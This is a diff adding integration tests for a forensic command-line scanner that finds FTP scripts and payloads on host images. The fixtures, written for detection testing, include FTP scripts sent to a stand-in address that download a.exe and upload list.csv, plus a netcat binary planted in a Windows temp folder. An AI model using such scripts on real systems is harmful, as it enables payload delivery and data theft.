@@ -1,0 +1,152 @@
+//! The program as a stranger meets it: exit codes, messages, pure output.
+
+use crate::support::{program, run, scan_json, testdata};
+use std::fs;
+use std::io::Write;
+use std::process::Stdio;
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8(bytes.to_vec()).unwrap()
+}
+
+#[test]
+fn exit_codes_are_the_documented_ones() {
+    let host = testdata("host");
+    let host = host.to_str().unwrap();
+    let quiet = tempfile::tempdir().unwrap();
+    fs::write(quiet.path().join("a.txt"), "nothing here").unwrap();
+    let quiet = quiet.path().to_str().unwrap();
+    let cases: &[(&[&str], i32)] = &[
+        (&["scan", quiet], 0),
+        (&["scan", host], 1),
+        (&["scan", host, "--fail-on", "critical"], 0),
+        (&["scan", host, "--fail-on", "never"], 0),
+        (&["scan", quiet, "--limit", "files=0"], 3),
+        (&["scan", host, "--limit", "files=6"], 1),
+        (&["scan", "no/such/place"], 2),
+        (&["scan", quiet, "no/such/place"], 3),
+        (&["scan"], 2),
+        (&["scan", quiet, "--threads", "0"], 2),
+        (&["scan", quiet, "--limit", "flies=3"], 2),
+        (&["scan", quiet, "--drive", "CD=x"], 2),
+        (&["scan", quiet, "--secrets", "fingerprint"], 2),
+        (&["scan", quiet, "--allow", "no/such/file"], 2),
+        (&["inspect", "no/such/file"], 2),
+        (&["inspect", quiet], 2),
+        (&["frobnicate"], 2),
+        (&[], 2),
+        (&["--help"], 0),
+        (&["--version"], 0),
+        (&["rules"], 0),
+        (&["schema"], 0),
+        (&["ls", host], 0),
+        (&["completions", "bash"], 0),
+    ];
+    for (arguments, code) in cases {
+        let out = run(arguments);
+        assert_eq!(out.status.code(), Some(*code), "{arguments:?}: {}", text(&out.stderr));
+        if *code == 2 {
+            assert!(out.stdout.is_empty() && !out.stderr.is_empty(), "{arguments:?}");
+        }
+    }
+}
+
+#[test]
+fn messages_name_what_is_wrong() {
+    let cases: &[(&[&str], &[&str])] = &[
+        (&["scan", "no/such/place"], &["no/such/place", "No such file"]),
+        (&["scan", ".", "--limit", "flies=3"], &["flies", "script_bytes"]),
+        (&["scan", ".", "--drive", "C"], &["C=DIR"]),
+        (&["scan", "."], &[]),
+    ];
+    for (arguments, words) in cases {
+        let message = text(&run(arguments).stderr);
+        assert!(words.iter().all(|word| message.contains(word)), "{arguments:?}: {message}");
+        assert!(!message.contains("internal error"), "{arguments:?}: {message}");
+    }
+}
+
+#[test]
+fn a_report_goes_to_a_file_whole_and_never_into_evidence() {
+    let folder = tempfile::tempdir().unwrap();
+    let (host, report) = (testdata("host"), folder.path().join("report.json"));
+    let scan = |out: &std::path::Path, more: &[&str]| {
+        program().arg("scan").arg(&host).args(["-f", "json", "-o"]).arg(out).args(more).output().unwrap()
+    };
+    let first = scan(&report, &[]);
+    assert_eq!((first.status.code(), first.stdout.len()), (Some(1), 0));
+    let written: serde_json::Value = serde_json::from_slice(&fs::read(&report).unwrap()).unwrap();
+    assert_eq!(written["schema"], "ftpsift.report/1");
+    let second = scan(&report, &[]);
+    assert_eq!(second.status.code(), Some(2));
+    assert!(text(&second.stderr).contains("--force"));
+    assert_eq!(scan(&report, &["--force"]).status.code(), Some(1));
+    let inside = scan(&host.join("Users/report.json"), &[]);
+    assert_eq!(inside.status.code(), Some(2));
+    assert!(text(&inside.stderr).contains("never written"));
+    assert!(!host.join("Users/report.json").exists());
+}
+
+#[test]
+fn a_closed_pipe_is_quiet() {
+    let mut child = program()
+        .arg("ls")
+        .arg(env!("CARGO_MANIFEST_DIR"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let out = child.wait_with_output().unwrap();
+    assert_eq!((out.status.code(), text(&out.stderr)), (Some(0), String::new()));
+}
+
+#[test]
+fn a_script_is_explained_from_standard_input() {
+    let mut child = program().args(["script", "-"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
+    let script = b"open 192.0.2.1\r\nbob\r\npw\r\nget a.exe\r\nbye\r\n";
+    child.stdin.take().unwrap().write_all(script).unwrap();
+    let out = text(&child.wait_with_output().unwrap().stdout);
+    for line in ["   2  answer   bob", "sends USER bob", "sends PASS pw", "sends RETR a.exe"] {
+        assert!(out.contains(line), "{line}\n{out}");
+    }
+    let todo = testdata("host/Users/jsmith/Documents/todo.txt");
+    let forced = program().args(["script", "--arguments", "-n"]).arg(todo).output().unwrap();
+    assert!(forced.status.success());
+}
+
+#[test]
+fn a_listing_has_every_entry_with_its_digest() {
+    let out =
+        program().arg("ls").arg(testdata("host")).args(["--hash", "sha256", "--format", "jsonl"]).output().unwrap();
+    let entries: Vec<serde_json::Value> =
+        text(&out.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let files: Vec<_> = entries.iter().filter(|entry| entry["type"] == "file").collect();
+    assert_eq!(files.len(), 12);
+    let program = files.iter().find(|entry| entry["path"] == r"C:\Windows\Temp\nc.exe").unwrap();
+    assert_eq!(program["sha256"], "32d9064263ec51adc330943875893c1c98e56755d8364b092426916c753551bb");
+    assert_eq!((&program["size"], &program["deleted"]), (&3072.into(), &false.into()));
+}
+
+#[test]
+fn drives_that_are_named_are_drives() {
+    let folder = tempfile::tempdir().unwrap();
+    let put = |path: &str, content: &str| {
+        let path = folder.path().join(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, content).unwrap();
+    };
+    put("image7/job/a.txt", "open 192.0.2.1\nuser bob pw\nlcd d:\\data\nput list.csv\nbye\n");
+    put("image7/data/list.csv", "a;b");
+    let drive = format!("d={}", folder.path().join("image7").display());
+    let (_, report) = scan_json(folder.path(), &["--drive", &drive]);
+    assert_eq!(report["payloads"][0]["path"], r"D:\data\list.csv");
+    assert_eq!(report["payloads"][0]["status"], "found");
+}
+
+#[test]
+fn no_colour_outside_a_terminal() {
+    let out = program().arg("scan").arg(testdata("host")).output().unwrap();
+    assert!(!out.stdout.contains(&0x1b));
+    assert!(text(&out.stdout).lines().all(|line| line.chars().count() <= 80 || !line.trim().contains(' ')));
+}
